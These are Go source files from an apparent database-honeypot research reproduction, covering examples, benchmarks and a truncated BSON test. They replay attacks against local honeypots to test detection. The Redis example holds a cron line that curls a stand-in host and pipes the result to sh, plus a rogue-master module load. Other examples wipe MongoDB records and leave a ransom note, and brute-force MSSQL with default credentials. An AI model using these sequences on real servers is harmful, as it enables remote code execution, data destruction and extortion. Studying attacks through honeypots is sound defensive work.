// Ransomwatch: run the high-interaction MongoDB honeypot with bait
// customer data, let a ransom actor steal/wipe/replace it over real TCP
// (the paper's Section 6.3 attack), and detect the campaign from the
// captured events — including the note template that identifies the
// group.
package main

import (
	"bufio"
	"context"
	"fmt"
	"log"
	"net"
	"time"

	"decoydb/internal/analysis"
	"decoydb/internal/bson"
	"decoydb/internal/core"
	"decoydb/internal/evstore"
	"decoydb/internal/fakedata"
	"decoydb/internal/geoip"
	"decoydb/internal/mongo"
)

func main() {
	log.SetFlags(0)

	// 1. High-interaction MongoDB honeypot, seeded with 200 fake
	// customer records (names, addresses, Luhn-valid card numbers).
	mstore := mongo.NewStore()
	for _, doc := range fakedata.New(7).MongoCustomers(200) {
		mstore.Insert("customers", "records", doc)
	}
	hp := mongo.New(mstore)

	events := evstore.New(time.Now().UTC().Truncate(24*time.Hour), 20, geoip.Default())
	farm := core.NewFarm(core.RealClock{}, events, core.FarmOptions{})
	defer farm.Shutdown()
	info := core.Info{DBMS: core.MongoDB, Level: core.High, Config: core.ConfigFakeData, Group: core.GroupHigh, Region: "NL"}
	addr, err := farm.Listen(context.Background(), "127.0.0.1:0", &core.Honeypot{Info: info, Handler: hp.Handler()})
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("mongodb honeypot on %s with %d bait records\n",
		addr, mstore.Count("customers", "records", nil))

	// 2. The attack: enumerate, dump, wipe, leave a ransom note.
	conn, err := net.Dial("tcp", addr.String())
	if err != nil {
		log.Fatal(err)
	}
	br := bufio.NewReader(conn)
	seq := int32(0)
	run := func(cmd bson.D) bson.D {
		seq++
		b, err := mongo.EncodeMsg(seq, cmd)
		if err != nil {
			log.Fatal(err)
		}
		if _, err := conn.Write(b); err != nil {
			log.Fatal(err)
		}
		reply, err := mongo.ReadMessage(br)
		if err != nil {
			log.Fatal(err)
		}
		return reply.Body
	}
	run(bson.D{{Key: "isMaster", Val: int32(1)}, {Key: "$db", Val: "admin"}})
	run(bson.D{{Key: "listDatabases", Val: int32(1)}, {Key: "$db", Val: "admin"}})
	dump := run(bson.D{{Key: "find", Val: "records"}, {Key: "$db", Val: "customers"}})
	batch, _ := dump.Doc("cursor").Lookup("firstBatch")
	fmt.Printf("attacker dumped %d documents\n", len(batch.(bson.A)))
	del := run(bson.D{
		{Key: "delete", Val: "records"},
		{Key: "deletes", Val: bson.A{bson.D{{Key: "q", Val: bson.D{}}, {Key: "limit", Val: int32(0)}}}},
		{Key: "$db", Val: "customers"},
	})
	fmt.Printf("attacker deleted %d documents\n", del.Int("n"))
	note := "All your data is backed up. You must pay 0.0058 BTC to bc1qexample In 48 hours, your data will be publicly disclosed and deleted."
	run(bson.D{
		{Key: "insert", Val: "README"},
		{Key: "documents", Val: bson.A{bson.D{{Key: "content", Val: note}}}},
		{Key: "$db", Val: "customers"},
	})
	conn.Close()

	// 3. Detection: the wipe-and-note pattern in the captured events.
	deadline := time.Now().Add(2 * time.Second)
	var st analysis.RansomStats
	for time.Now().Before(deadline) {
		st = analysis.Ransom(events.IPs())
		if st.IPs > 0 {
			break
		}
		time.Sleep(10 * time.Millisecond)
	}
	if st.IPs != 1 || st.Templates != 1 {
		log.Fatalf("ransom not detected: %+v", st)
	}
	fmt.Printf("\nALERT: ransom attack detected from %d source (note template group %d)\n", st.IPs, st.Templates)
	fmt.Printf("honeypot store after attack: %d records, %d ransom notes\n",
		mstore.Count("customers", "records", nil), mstore.Count("customers", "README", nil))
	fmt.Println("ransomwatch OK")
}
