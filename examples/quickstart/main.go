// Quickstart: serve a Redis honeypot on a local TCP port, attack it with
// the P2PInfect command chain from the paper's Listing 1, and show what
// the honeypot captured and how the behaviour is classified.
package main

import (
	"bufio"
	"context"
	"fmt"
	"log"
	"net"
	"time"

	"decoydb/internal/classify"
	"decoydb/internal/core"
	"decoydb/internal/evstore"
	"decoydb/internal/geoip"
	"decoydb/internal/redis"
)

func main() {
	log.SetFlags(0)

	// 1. Stand up the honeypot farm with one medium-interaction Redis
	// instance, streaming observations into an analysis store.
	store := evstore.New(time.Now().UTC().Truncate(24*time.Hour), 20, geoip.Default())
	farm := core.NewFarm(core.RealClock{}, store, core.FarmOptions{})
	defer farm.Shutdown()

	info := core.Info{DBMS: core.Redis, Level: core.Medium, Config: core.ConfigDefault, Group: core.GroupMedium}
	hp := &core.Honeypot{Info: info, Handler: redis.New(redis.Options{}).Handler()}
	addr, err := farm.Listen(context.Background(), "127.0.0.1:0", hp)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("redis honeypot listening on %s\n\n", addr)

	// 2. Attack it over real TCP: the rogue-master infection chain.
	conn, err := net.Dial("tcp", addr.String())
	if err != nil {
		log.Fatal(err)
	}
	br := bufio.NewReader(conn)
	attack := [][]string{
		{"INFO", "server"},
		{"SET", "x", "*/1 * * * * root curl http://198.51.100.1:8080/linux | sh"},
		{"CONFIG", "SET", "dir", "/var/spool/cron.d/"},
		{"CONFIG", "SET", "dbfilename", "root"},
		{"SAVE"},
		{"CONFIG", "SET", "dir", "/tmp/"},
		{"CONFIG", "SET", "dbfilename", "exp.so"},
		{"SLAVEOF", "198.51.100.1", "8080"},
		{"MODULE", "LOAD", "/tmp/exp.so"},
		{"SLAVEOF", "NO", "ONE"},
	}
	for _, cmd := range attack {
		if _, err := conn.Write(redis.EncodeCommand(cmd...)); err != nil {
			log.Fatal(err)
		}
		reply, err := redis.ReadValue(br)
		if err != nil {
			log.Fatal(err)
		}
		fmt.Printf("  > %v\n  < %s%s\n", cmd, string(reply.Kind), reply.Str)
	}
	conn.Close()

	// 3. The events are already in the store; classify the attacker.
	deadline := time.Now().Add(2 * time.Second)
	for store.UniqueIPs(evstore.Query{}) == 0 && time.Now().Before(deadline) {
		time.Sleep(10 * time.Millisecond)
	}
	fmt.Println()
	for _, rec := range store.IPs() {
		behaviour := classify.IP(rec, evstore.Query{})
		fmt.Printf("source %s classified as: %s\n", rec.Addr, behaviour)
		for key, act := range rec.Per {
			fmt.Printf("  %s/%s sessions=%d commands=%d\n", key.DBMS, key.Level, act.Sessions, act.CommandsRun)
			for _, a := range act.Actions {
				fmt.Printf("    action: %s\n", a.Name)
			}
		}
		if behaviour != classify.Exploiting {
			log.Fatal("expected the P2PInfect chain to classify as exploiting")
		}
	}
	fmt.Println("\nquickstart OK: the infection chain was captured and classified as exploiting")
}
