// Bruteforce: serve a low-interaction MSSQL honeypot on TCP, run a
// credential brute-force against it over the real TDS protocol, then
// report the harvested credentials and cross-reference the source against
// threat-intelligence feeds — the paper's Section 5 workflow in miniature.
package main

import (
	"bufio"
	"context"
	"fmt"
	"log"
	"net"
	"net/netip"
	"time"

	"decoydb/internal/core"
	"decoydb/internal/evstore"
	"decoydb/internal/geoip"
	"decoydb/internal/intel"
	"decoydb/internal/mssql"
)

// creds is a small default-credential list in the style brute tools walk
// first (paper Table 12).
var creds = [][2]string{
	{"sa", "123"}, {"sa", "123"}, {"sa", "123"}, // defaults get retried
	{"admin", "123456"}, {"sa", "password"}, {"test", "1"},
	{"root", "aaaaaa"}, {"sa", "P@ssw0rd"}, {"sa", "sa2024!"}, {"user", "0"},
}

func main() {
	log.SetFlags(0)
	store := evstore.New(time.Now().UTC().Truncate(24*time.Hour), 20, geoip.Default())
	farm := core.NewFarm(core.RealClock{}, store, core.FarmOptions{})
	defer farm.Shutdown()

	info := core.Info{DBMS: core.MSSQL, Level: core.Low, Config: core.ConfigDefault, Group: core.GroupSingle}
	addr, err := farm.Listen(context.Background(), "127.0.0.1:0", &core.Honeypot{Info: info, Handler: mssql.New().Handler()})
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("mssql honeypot on %s\n", addr)

	// Brute-force over real TDS: one connection per attempt, like actual
	// tooling (MSSQL drops the connection after a failed login).
	for _, c := range creds {
		conn, err := net.Dial("tcp", addr.String())
		if err != nil {
			log.Fatal(err)
		}
		br := bufio.NewReader(conn)
		pre := mssql.Packet{Type: mssql.PktPrelogin, Payload: mssql.StandardPrelogin(11, 0, 0, 0)}
		if err := mssql.WritePacket(conn, pre); err != nil {
			log.Fatal(err)
		}
		if _, err := mssql.ReadPacket(br); err != nil {
			log.Fatal(err)
		}
		l7 := mssql.EncodeLogin7(mssql.Login7{HostName: "ATTACKER", UserName: c[0], Password: c[1], AppName: "sqlbrute"})
		if err := mssql.WritePacket(conn, mssql.Packet{Type: mssql.PktLogin7, Payload: l7}); err != nil {
			log.Fatal(err)
		}
		resp, err := mssql.ReadPacket(br)
		if err != nil {
			log.Fatal(err)
		}
		code, msg, _ := mssql.ParseError(resp.Payload)
		fmt.Printf("  attempt %s/%s -> %d %s\n", c[0], c[1], code, msg)
		conn.Close()
	}

	// Wait for the async farm sessions to drain into the store.
	deadline := time.Now().Add(2 * time.Second)
	for store.Logins(evstore.Query{}) < int64(len(creds)) && time.Now().Before(deadline) {
		time.Sleep(10 * time.Millisecond)
	}

	fmt.Println("\nharvested credentials (by frequency):")
	for _, cc := range store.Creds(evstore.Query{DBMS: core.MSSQL}) {
		fmt.Printf("  %-8s %-10s x%d\n", cc.User, cc.Pass, cc.Count)
	}

	// Cross-reference the attacking source against intel feeds, as the
	// paper did with GreyNoise/AbuseIPDB/Team Cymru.
	var sources []netip.Addr
	for _, r := range store.IPs() {
		sources = append(sources, r.Addr)
	}
	feed := intel.BuildFeed(intel.GreyNoise, sources, intel.Coverage{
		ListedFrac: 1, MaliciousFrac: 1, Tags: []string{"MSSQL bruteforcer"},
	}, 1)
	for _, s := range intel.CrossReference([]*intel.Feed{feed}, sources) {
		fmt.Printf("\n%s: %d/%d sources listed, %d flagged malicious\n",
			s.Feed, s.Listed, s.Total, s.Malicious)
	}
	fmt.Println("bruteforce OK")
}
