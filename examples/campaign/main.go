// Campaign: run a compressed deployment simulation, then cluster the
// captured medium/high-interaction behaviour with TF + Ward linkage and
// tag the clusters with the campaigns they match — the paper's Section
// 6.1/6.2 workflow end to end.
package main

import (
	"context"
	"fmt"
	"log"
	"sort"

	"decoydb/internal/cluster"
	"decoydb/internal/core"
	"decoydb/internal/experiments"
)

func main() {
	log.SetFlags(0)
	fmt.Println("simulating the 20-day deployment (compressed brute-force volume)...")
	ds, err := experiments.Build(context.Background(), 1, 4096)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("captured %d events from %d sources\n\n", ds.Store.Events(), len(ds.Recs))

	for _, dbms := range []string{core.Redis, core.Postgres, core.Elastic, core.MongoDB} {
		res, raws := ds.ClusterFor(dbms)
		tags := cluster.TagClusters(res, raws)
		fmt.Printf("%s: %d sources grouped into %d behaviour clusters\n",
			dbms, len(res.Sequences), res.Clusters)

		// Report tagged campaigns, largest first.
		type row struct {
			label int
			tag   string
			size  int
		}
		var rows []row
		sizes := res.Sizes()
		for label, tag := range tags {
			rows = append(rows, row{label, tag, sizes[label]})
		}
		sort.Slice(rows, func(i, j int) bool {
			if rows[i].size != rows[j].size {
				return rows[i].size > rows[j].size
			}
			return rows[i].tag < rows[j].tag
		})
		for _, r := range rows {
			members := res.Members(r.label)
			sample := members[0]
			fmt.Printf("  campaign %-22s %4d IPs (e.g. %s)\n", r.tag, r.size, sample)
		}
		fmt.Println()
	}
	fmt.Println("campaign OK")
}
