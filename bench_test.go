// Benchmark harness: one benchmark per table and figure in the paper's
// evaluation (see DESIGN.md Section 5 for the index), plus ablations of
// the design choices. Each benchmark regenerates its artefact from a
// shared simulated dataset; run with
//
//	go test -bench=. -benchmem
//
// The dataset is built once per process (outside the timed region) at a
// compressed brute-force scale; per-table absolute volumes rescale by the
// scale factor, while every distributional claim is scale-invariant.
package decoydb

import (
	"context"
	"fmt"
	"net/netip"
	"runtime"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"decoydb/internal/bus"
	"decoydb/internal/cluster"
	"decoydb/internal/core"
	"decoydb/internal/evstore"
	"decoydb/internal/experiments"
	"decoydb/internal/geoip"
	"decoydb/internal/mssql"
	"decoydb/internal/pipeline"
	"decoydb/internal/report"
	"decoydb/internal/simnet"
	"decoydb/internal/wal"
)

// benchScale compresses brute-force volume for the benchmark dataset.
const benchScale = 2048

var (
	dsOnce sync.Once
	dsVal  *experiments.Dataset
	dsErr  error
)

func dataset(b *testing.B) *experiments.Dataset {
	b.Helper()
	dsOnce.Do(func() {
		dsVal, dsErr = experiments.Build(context.Background(), 1, benchScale)
	})
	if dsErr != nil {
		b.Fatal(dsErr)
	}
	return dsVal
}

// benchExperiment times regenerating one paper artefact.
func benchExperiment(b *testing.B, id string) {
	ds := dataset(b)
	exp := experiments.ByID(id)
	if exp == nil {
		b.Fatalf("unknown experiment %q", id)
	}
	b.ResetTimer()
	var art report.Artifact
	for i := 0; i < b.N; i++ {
		art = exp.Run(ds)
	}
	if art.Body == "" {
		b.Fatal("empty artefact")
	}
}

// --- Headline counts and figures ---

func BenchmarkHeadlineCounts(b *testing.B) { benchExperiment(b, "H1") }
func BenchmarkFigure2(b *testing.B)        { benchExperiment(b, "F2") }
func BenchmarkFigure3(b *testing.B)        { benchExperiment(b, "F3") }
func BenchmarkFigure4(b *testing.B)        { benchExperiment(b, "F4") }
func BenchmarkFigure5(b *testing.B)        { benchExperiment(b, "F5") }
func BenchmarkFigures6to9(b *testing.B)    { benchExperiment(b, "F6-F9") }

// --- Tables ---

func BenchmarkTable4(b *testing.B)  { benchExperiment(b, "T4") }
func BenchmarkTable5(b *testing.B)  { benchExperiment(b, "T5") }
func BenchmarkTable6(b *testing.B)  { benchExperiment(b, "T6") }
func BenchmarkTable7(b *testing.B)  { benchExperiment(b, "T7") }
func BenchmarkTable8(b *testing.B)  { benchExperiment(b, "T8") }
func BenchmarkTable9(b *testing.B)  { benchExperiment(b, "T9") }
func BenchmarkTable10(b *testing.B) { benchExperiment(b, "T10") }
func BenchmarkTable11(b *testing.B) { benchExperiment(b, "T11") }
func BenchmarkTable12(b *testing.B) { benchExperiment(b, "T12") }

// --- Section statistics ---

func BenchmarkBruteForceStats(b *testing.B) { benchExperiment(b, "X1") }
func BenchmarkControlGroup(b *testing.B)    { benchExperiment(b, "X2") }
func BenchmarkIntelCoverage(b *testing.B)   { benchExperiment(b, "X3") }
func BenchmarkConfigEffects(b *testing.B)   { benchExperiment(b, "X4") }
func BenchmarkRansom(b *testing.B)          { benchExperiment(b, "X5") }
func BenchmarkInstitutional(b *testing.B)   { benchExperiment(b, "X6") }

// BenchmarkSimulation measures the end-to-end data collection itself:
// the full 278-honeypot deployment under the synthetic Internet, every
// session over a real connection.
func BenchmarkSimulation(b *testing.B) {
	for i := 0; i < b.N; i++ {
		store := evstore.New(core.ExperimentStart, core.ExperimentDays, geoip.Default())
		res, err := simnet.Run(context.Background(), simnet.Config{Seed: int64(i + 1), Scale: 1 << 14}, store)
		if err != nil {
			b.Fatal(err)
		}
		b.ReportMetric(float64(res.Sessions), "sessions/op")
	}
}

// --- Ablation A1: TF clustering vs payload-exact grouping ---
//
// The paper argues (Section 6.1) that clustering on normalised action
// frequencies groups bot runs that randomise payload parameters, where
// payload-exact grouping fragments them. The metric is the number of
// groups the P2PInfect campaign (one bot, 35 sources, randomised hashes
// and loader addresses) splits into.
func BenchmarkAblationClustering(b *testing.B) {
	ds := dataset(b)
	res, raws := ds.ClusterFor(core.Redis)

	members := map[string]bool{}
	for _, seq := range res.Sequences {
		if cluster.TagSequence(seq.Actions, raws[seq.ID]) == cluster.TagP2PInfect {
			members[seq.ID] = true
		}
	}
	if len(members) == 0 {
		b.Fatal("no p2pinfect members in dataset")
	}

	var tfGroups, exactGroups int
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		// TF route: distinct cluster labels among campaign members.
		labels := map[int]bool{}
		for j, seq := range res.Sequences {
			if members[seq.ID] {
				labels[res.Labels[j]] = true
			}
		}
		tfGroups = len(labels)
		// Payload-exact route: group by the exact raw payload bytes.
		exact := map[string]bool{}
		for _, seq := range res.Sequences {
			if members[seq.ID] {
				joined := ""
				for _, r := range raws[seq.ID] {
					joined += r
				}
				exact[joined] = true
			}
		}
		exactGroups = len(exact)
	}
	b.ReportMetric(float64(tfGroups), "tf-groups")
	b.ReportMetric(float64(exactGroups), "payload-groups")
	if tfGroups >= exactGroups {
		b.Fatalf("TF clustering (%d groups) did not consolidate hash-randomised runs (payload-exact: %d)", tfGroups, exactGroups)
	}
}

// --- Ablation A2: Ward vs single/complete linkage ---
//
// Quality metric: weighted purity of clusters against campaign ground
// truth (the tag of each sequence), at the cluster count Ward produced.
func BenchmarkAblationLinkage(b *testing.B) {
	ds := dataset(b)
	res, raws := ds.ClusterFor(core.Redis)
	seqs := res.Sequences
	vecs, _ := cluster.Vectorize(seqs)
	truth := make([]string, len(seqs))
	for i, seq := range seqs {
		truth[i] = cluster.TagSequence(seq.Actions, raws[seq.ID])
	}
	k := res.Clusters

	purity := func(labels []int) float64 {
		byCluster := map[int]map[string]int{}
		for i, l := range labels {
			if byCluster[l] == nil {
				byCluster[l] = map[string]int{}
			}
			byCluster[l][truth[i]]++
		}
		correct := 0
		for _, counts := range byCluster {
			best := 0
			for _, n := range counts {
				if n > best {
					best = n
				}
			}
			correct += best
		}
		return float64(correct) / float64(len(labels))
	}

	var ward, single, complete float64
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		ward = purity(cluster.Agglomerate(vecs, cluster.WardLinkage).CutK(k))
		single = purity(cluster.Agglomerate(vecs, cluster.SingleLinkage).CutK(k))
		complete = purity(cluster.Agglomerate(vecs, cluster.CompleteLinkage).CutK(k))
	}
	b.ReportMetric(ward*100, "ward-purity-%")
	b.ReportMetric(single*100, "single-purity-%")
	b.ReportMetric(complete*100, "complete-purity-%")
}

// --- Ablation A3: aggregated login store vs naive per-event storage ---
//
// The evstore aggregates login events into credential counters; a naive
// design keeps every event. At the paper's 18.16M logins the naive store
// is untenable; this ablation measures the per-event cost of both at a
// smaller volume.
func BenchmarkAblationLoginStore(b *testing.B) {
	const events = 100_000
	src := netip.AddrPortFrom(netip.MustParseAddr("198.51.100.77"), 1000)
	hp := core.Info{DBMS: core.MSSQL, Level: core.Low, Config: core.ConfigDefault, Group: core.GroupMulti}
	mkEvent := func(i int) core.Event {
		return core.Event{
			Time: core.ExperimentStart, Src: src, Honeypot: hp,
			Kind: core.EventLogin,
			User: "sa", Pass: fmt.Sprintf("pw%d", i%5000),
		}
	}
	b.Run("aggregated", func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			store := evstore.New(core.ExperimentStart, core.ExperimentDays, nil)
			for j := 0; j < events; j++ {
				store.Record(mkEvent(j))
			}
		}
	})
	b.Run("naive", func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			sink := &core.MemSink{}
			for j := 0; j < events; j++ {
				sink.Record(mkEvent(j))
			}
			if sink.Len() != events {
				b.Fatal("lost events")
			}
		}
	})
}

// --- Event transport: the bus between sessions and sinks ---

// busWorkSink models a realistic consumer: light per-event CPU (a hash
// over the credential fields) plus a fixed per-delivery latency — the
// flush/fsync/RTT cost any durable sink pays per batch. The latency is
// a wait, not a spin, so shard workers overlap it; delivery parallelism
// is the variable under test even on few cores. It implements
// core.BatchSink and holds no shared lock.
type busWorkSink struct {
	n atomic.Uint64
}

// busSinkLatency is the simulated per-delivery (per-batch) commit cost.
const busSinkLatency = 100 * time.Microsecond

func (s *busWorkSink) work(e core.Event) uint64 {
	h := uint64(14695981039346656037)
	for _, c := range []byte(e.User) {
		h = (h ^ uint64(c)) * 1099511628211
	}
	for _, c := range []byte(e.Pass) {
		h = (h ^ uint64(c)) * 1099511628211
	}
	for _, c := range []byte(e.Raw) {
		h = (h ^ uint64(c)) * 1099511628211
	}
	return h
}

func (s *busWorkSink) Record(e core.Event) {
	time.Sleep(busSinkLatency)
	s.n.Add(s.work(e)%2 + 1) // data-dependent so the work isn't dead code
}

func (s *busWorkSink) RecordBatch(events []core.Event) error {
	time.Sleep(busSinkLatency)
	var n uint64
	for _, e := range events {
		n += s.work(e)%2 + 1
	}
	s.n.Add(n)
	return nil
}

// busShardN is the multi-shard configuration under test: GOMAXPROCS,
// but at least 4 so the delivery-overlap effect is measurable on small
// machines too.
func busShardN() int {
	if n := runtime.GOMAXPROCS(0); n > 4 {
		return n
	}
	return 4
}

// benchBus measures ingest throughput (Record calls per second) through
// a bus with the given options. Producers run on all cores with distinct
// source IPs, the shape of a farm under Internet-wide load.
func benchBus(b *testing.B, opts bus.Options) {
	sink := &busWorkSink{}
	opts.QueueSize = 4096
	evbus := bus.New(opts, sink)
	raw := "N'4120BA6D...x" // bounded payload excerpt, exercises the hash
	var src atomic.Uint32
	b.ResetTimer()
	b.RunParallel(func(pb *testing.PB) {
		id := src.Add(1)
		i := uint32(0)
		for pb.Next() {
			i++
			ip := netip.AddrFrom4([4]byte{10, byte(id), byte(i >> 8), byte(i)})
			evbus.Record(core.Event{
				Time: core.ExperimentStart,
				Src:  netip.AddrPortFrom(ip, 1024),
				Honeypot: core.Info{
					DBMS: core.MSSQL, Level: core.Low,
					Config: core.ConfigDefault, Group: core.GroupMulti,
				},
				Kind: core.EventLogin, User: "sa", Pass: "P@ssw0rd!", Raw: raw,
			})
		}
	})
	b.StopTimer()
	if err := evbus.Close(); err != nil {
		b.Fatal(err)
	}
	st := evbus.Stats()
	b.ReportMetric(float64(st.Delivered), "delivered")
	b.ReportMetric(float64(st.Dropped), "dropped")
	b.ReportMetric(st.MeanBatch(), "batch-size")
}

func BenchmarkBusShard1Block(b *testing.B) { benchBus(b, bus.Options{Shards: 1, Policy: bus.Block}) }
func BenchmarkBusShardNBlock(b *testing.B) {
	benchBus(b, bus.Options{Shards: busShardN(), Policy: bus.Block})
}
func BenchmarkBusShard1Drop(b *testing.B) { benchBus(b, bus.Options{Shards: 1, Policy: bus.Drop}) }
func BenchmarkBusShardNDrop(b *testing.B) {
	benchBus(b, bus.Options{Shards: busShardN(), Policy: bus.Drop})
}

// BenchmarkBusAdaptive pins the Adaptive fast path against Block: with
// the high-water mark above the queue size, shedding can never engage,
// so the only difference from BenchmarkBusShardNBlock is the per-Record
// admission check. The two must stay within noise of each other.
func BenchmarkBusAdaptive(b *testing.B) {
	benchBus(b, bus.Options{Shards: busShardN(), Policy: bus.Adaptive, HighWater: 1 << 30})
}

// BenchmarkBusSinkModes compares batched vs per-event delivery into the
// real LogWriter — the amortisation RecordBatch buys on the hot path.
func BenchmarkBusSinkModes(b *testing.B) {
	mkEvent := func(i int) core.Event {
		return core.Event{
			Time: core.ExperimentStart,
			Src:  netip.AddrPortFrom(netip.AddrFrom4([4]byte{10, 0, byte(i >> 8), byte(i)}), 1024),
			Honeypot: core.Info{
				DBMS: core.MSSQL, Level: core.Low,
				Config: core.ConfigDefault, Group: core.GroupMulti,
			},
			Kind: core.EventLogin, User: "sa", Pass: fmt.Sprintf("pw%d", i),
		}
	}
	batch := make([]core.Event, 256)
	for i := range batch {
		batch[i] = mkEvent(i)
	}
	b.Run("batch", func(b *testing.B) {
		lw, err := pipeline.NewLogWriter(b.TempDir())
		if err != nil {
			b.Fatal(err)
		}
		defer lw.Close()
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			if err := lw.RecordBatch(batch); err != nil {
				b.Fatal(err)
			}
		}
	})
	b.Run("per-event", func(b *testing.B) {
		lw, err := pipeline.NewLogWriter(b.TempDir())
		if err != nil {
			b.Fatal(err)
		}
		defer lw.Close()
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			for _, e := range batch {
				lw.Record(e)
			}
		}
	})
}

// --- Event store: sharded ingest vs the seed's single mutex ---

// storeIngestWorkers is the delivery parallelism offered upstream: the
// bus runs one worker per bus shard, so the store sees this many
// concurrent RecordBatch callers regardless of its own shard count.
const storeIngestWorkers = 8

// BenchmarkStoreIngest measures committed events per second into the
// store under the bus delivery pattern: storeIngestWorkers goroutines,
// each repeatedly committing a shard-affine 256-event batch (all
// sources in a batch hash to that worker's bus shard, exactly what the
// sharded bus delivers). The variable is the store's shard count:
// shards=1 is the seed's single-mutex layout, where every worker
// serialises on one lock; shards=8 matches the bus shard count, so each
// batch commits under its own shard lock with zero cross-shard
// contention. One op is one batch per worker. Speedup requires real
// cores: on a single-CPU machine the workers time-slice and the ratio
// collapses to ~1x — see DESIGN.md for reference numbers.
func BenchmarkStoreIngest(b *testing.B) {
	const batchSize = 256
	// Pre-build one batch per worker, partitioned the way the bus
	// partitions: worker w owns the sources with ShardOf(addr, workers) == w.
	batches := make([][]core.Event, storeIngestWorkers)
	hp := core.Info{DBMS: core.MSSQL, Level: core.Low, Config: core.ConfigDefault, Group: core.GroupMulti}
	for i, filled := 0, 0; filled < storeIngestWorkers; i++ {
		addr := netip.AddrFrom4([4]byte{198, 51, byte(i >> 8), byte(i)})
		w := core.ShardOf(addr, storeIngestWorkers)
		if len(batches[w]) == batchSize {
			continue
		}
		batches[w] = append(batches[w], core.Event{
			Time: core.ExperimentStart, Src: netip.AddrPortFrom(addr, 1024),
			Honeypot: hp, Kind: core.EventLogin,
			User: "sa", Pass: fmt.Sprintf("pw%d", i%16),
		})
		if len(batches[w]) == batchSize {
			filled++
		}
	}
	shardCounts := []int{1, storeIngestWorkers}
	if n := runtime.GOMAXPROCS(0); n != 1 && n != storeIngestWorkers {
		shardCounts = append(shardCounts, n)
	}
	for _, shards := range shardCounts {
		b.Run(fmt.Sprintf("shards=%d", shards), func(b *testing.B) {
			store := evstore.NewSharded(core.ExperimentStart, core.ExperimentDays, nil, shards)
			b.ReportAllocs()
			b.ResetTimer()
			var wg sync.WaitGroup
			for w := 0; w < storeIngestWorkers; w++ {
				wg.Add(1)
				go func(batch []core.Event) {
					defer wg.Done()
					for i := 0; i < b.N; i++ {
						if err := store.RecordBatch(batch); err != nil {
							b.Error(err)
							return
						}
					}
				}(batches[w])
			}
			wg.Wait()
			b.StopTimer()
			events := int64(b.N) * storeIngestWorkers * batchSize
			if store.Events() != events {
				b.Fatalf("store has %d events, want %d", store.Events(), events)
			}
			b.ReportMetric(float64(events)/b.Elapsed().Seconds(), "events/s")
		})
	}
}

// BenchmarkStoreIngestWAL is BenchmarkStoreIngest's shards=N case with
// the write-ahead journal attached (interval fsync, the decoydb -store
// default): the price of crash-durable ingest over pure in-memory
// aggregation. The journal serialises appends on one lock, so this also
// bounds how much of the sharded store's parallelism durability costs.
func BenchmarkStoreIngestWAL(b *testing.B) {
	const batchSize = 256
	batches := make([][]core.Event, storeIngestWorkers)
	hp := core.Info{DBMS: core.MSSQL, Level: core.Low, Config: core.ConfigDefault, Group: core.GroupMulti}
	for i, filled := 0, 0; filled < storeIngestWorkers; i++ {
		addr := netip.AddrFrom4([4]byte{198, 51, byte(i >> 8), byte(i)})
		w := core.ShardOf(addr, storeIngestWorkers)
		if len(batches[w]) == batchSize {
			continue
		}
		batches[w] = append(batches[w], core.Event{
			Time: core.ExperimentStart, Src: netip.AddrPortFrom(addr, 1024),
			Honeypot: hp, Kind: core.EventLogin,
			User: "sa", Pass: fmt.Sprintf("pw%d", i%16),
		})
		if len(batches[w]) == batchSize {
			filled++
		}
	}
	b.Run(fmt.Sprintf("shards=%d", storeIngestWorkers), func(b *testing.B) {
		l, err := wal.Open(wal.Options{Dir: b.TempDir()})
		if err != nil {
			b.Fatal(err)
		}
		defer l.Close()
		store := evstore.NewSharded(core.ExperimentStart, core.ExperimentDays, nil, storeIngestWorkers)
		if _, err := store.AttachWAL(l, nil); err != nil {
			b.Fatal(err)
		}
		b.ReportAllocs()
		b.ResetTimer()
		var wg sync.WaitGroup
		for w := 0; w < storeIngestWorkers; w++ {
			wg.Add(1)
			go func(batch []core.Event) {
				defer wg.Done()
				for i := 0; i < b.N; i++ {
					if err := store.RecordBatch(batch); err != nil {
						b.Error(err)
						return
					}
				}
			}(batches[w])
		}
		wg.Wait()
		b.StopTimer()
		events := int64(b.N) * storeIngestWorkers * batchSize
		if store.Events() != events {
			b.Fatalf("store has %d events, want %d", store.Events(), events)
		}
		b.ReportMetric(float64(events)/b.Elapsed().Seconds(), "events/s")
	})
}

// --- Protocol microbenchmark: the hottest parse in the system ---

// BenchmarkTDSLoginParse measures LOGIN7 parsing, of which the paper-scale
// dataset contains 18 million.
func BenchmarkTDSLoginParse(b *testing.B) {
	payload := mssql.EncodeLogin7(mssql.Login7{
		HostName: "WIN-BRUTE", UserName: "sa", Password: "P@ssw0rd", AppName: "OSQL-32",
	})
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		l, err := mssql.ParseLogin7(payload)
		if err != nil || l.UserName != "sa" {
			b.Fatal(err)
		}
	}
}
