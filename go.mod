module decoydb

go 1.24
