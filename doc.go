// Package decoydb is a production-quality Go reproduction of "Decoy
// Databases: Analyzing Attacks on Public Facing Databases" (IMC 2025):
// a multi-tier database honeypot farm (MySQL, MSSQL, PostgreSQL, Redis,
// Elasticsearch, MongoDB, plus MariaDB/CouchDB extensions), the
// enrichment and analysis pipeline behind it, a calibrated Internet
// simulation standing in for live exposure, and a harness that
// regenerates every table and figure in the paper's evaluation.
//
// Start with README.md for usage, DESIGN.md for the system inventory and
// substitution arguments, and EXPERIMENTS.md for paper-vs-measured
// results. The root package carries only the benchmark harness
// (bench_test.go); the implementation lives under internal/ and the
// executables under cmd/.
package decoydb
