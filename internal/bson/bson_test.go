package bson

import (
	"math/rand"
	"reflect"
	"testing"
	"testing/quick"
	"time"
)

func roundTrip(t *testing.T, d D) D {
	t.Helper()
	b, err := Marshal(d)
	if err != nil {
		t.Fatalf("Marshal: %v", err)
	}
	out, err := Unmarshal(b)
	if err != nil {
		t.Fatalf("Unmarshal: %v", err)
	}
	return out
}

func TestRoundTripScalars(t *testing.T) {
	ts := time.Date(2024, 3, 22, 10, 30, 0, 0, time.UTC)
	in := D{
		{Key: "double", Val: 3.5},
